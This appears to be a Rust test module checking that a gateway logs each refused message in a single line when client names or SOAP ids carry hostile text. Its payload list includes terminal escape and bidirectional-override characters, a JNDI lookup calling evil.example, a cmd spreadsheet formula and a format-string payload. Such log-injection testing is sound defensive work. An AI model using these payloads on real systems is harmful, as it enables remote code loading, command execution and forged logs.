//! What would forge the lines that a gateway writes about its work (T43): ends of lines, sequences for terminals, marks that
//! turn text, words that some reader of logs would act on; in ids that are told when a message is refused. That no line is
//! more than one, whatever the case, is for the [`super::judge`] to see.

use super::case::{Answer, Case, Evidence, Expected};
use super::judge::lines_since;
use super::soap::{TEXT, post};
use crate::world::{Ask, RECORDS, World, envelope, soon};

/// What is hostile about a text, and the text.
const HOSTILE: [(&str, &str); 14] = [
    ("an escape sequence", "\u{1b}[2J"),
    ("another escape sequence", "\u{9b}31m"),
    ("a deletion", "\u{7f}"),
    ("a next line", "\u{85}"),
    ("a separator of lines", "\u{2028}"),
    ("a separator of paragraphs", "\u{2029}"),
    ("an override to the left", "\u{202e}"),
    ("an embedding", "\u{202a}"),
    ("an isolate", "\u{2066}"),
    ("an end of an isolate", "\u{2069}"),
    ("a mark of direction", "\u{200f}"),
    ("a look-up", "${jndi:ldap://evil.example/x}"),
    ("a formula", "=cmd|' /C calc'!A0"),
    ("a format", "%n%s%x"),
];

/// T43.
pub(super) async fn cases(_world: &World) -> Vec<Case> {
    let mut cases = Vec::new();
    let expected = || Expected::Verdict("told in one line".to_owned());
    for (what, text) in HOSTILE {
        let encoded: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let client = format!("DEMO/GOV/3003/{encoded}");
        cases.push(Case::doing(
            format!("{what} in the name of a peer's client"),
            move |world| {
                let client = client.clone();
                Box::pin(async move {
                    let message = super::headers::written(world, "DEMO/GOV/3003/other", &client).await;
                    let before = lines_since(0).1;
                    let reply = world.rogue.send(&world.provider.peers(), &message).await;
                    told(before, reply.and_then(|reply| reply.fault()), "code=").await
                })
            },
            expected(),
        ));
        // A message whose header holds such a character is none, has no id to be told, and is not logged.
        let is_none = text.chars().any(|c| c.is_control() && !c.is_whitespace());
        let shown = format!("{:?}", format!("id{text}end"));
        let shown = if is_none { "code=".to_owned() } else { shown };
        let evidence = if is_none { Evidence::None } else { Evidence::Refused };
        let soap = Case::doing(
            format!("{what} in the id of a SOAP message"),
            move |world| {
                let (written, shown) = (text.replace('&', "&amp;"), shown.clone());
                Box::pin(async move {
                    let ask = post(TEXT, envelope(("shut", "v1"), &format!("id{written}end"), "", "<shut/>"));
                    let before = lines_since(0).1;
                    let reply = world.ask(&ask).await;
                    told(before, Answer::of_reply(Some(reply)).code, &shown).await
                })
            },
            expected(),
        );
        cases.push(soap.leaves(evidence));
        let client = format!("DEMO/GOV/1001/{encoded}");
        cases.push(Case::doing(
            format!("{what} in the name of a client"),
            move |world| {
                let ask = Ask::get(&format!("{RECORDS}/x")).client(&client);
                Box::pin(async move {
                    let before = lines_since(0).1;
                    let reply = world.ask(&ask).await;
                    told(before, Answer::of_reply(Some(reply)).code, "code=").await
                })
            },
            expected(),
        ));
    }
    cases
}

/// Refused with a code, and told with `shown` in one line.
async fn told(before: usize, code: Option<String>, shown: &str) -> Answer {
    let Some(code) = code else { return Answer::verdict("not refused", "") };
    let is_told = |line: &String| line.contains(gateway::fault::REFUSED) && line.contains(shown);
    soon("the refusal is told", || lines_since(before).0.iter().any(|line| line.contains(&code))).await;
    let lines = lines_since(before).0;
    let verdict = if lines.iter().any(is_told) { "told in one line" } else { "told otherwise" };
    Answer::verdict(verdict, format!("{code}: {lines:?}"))
}
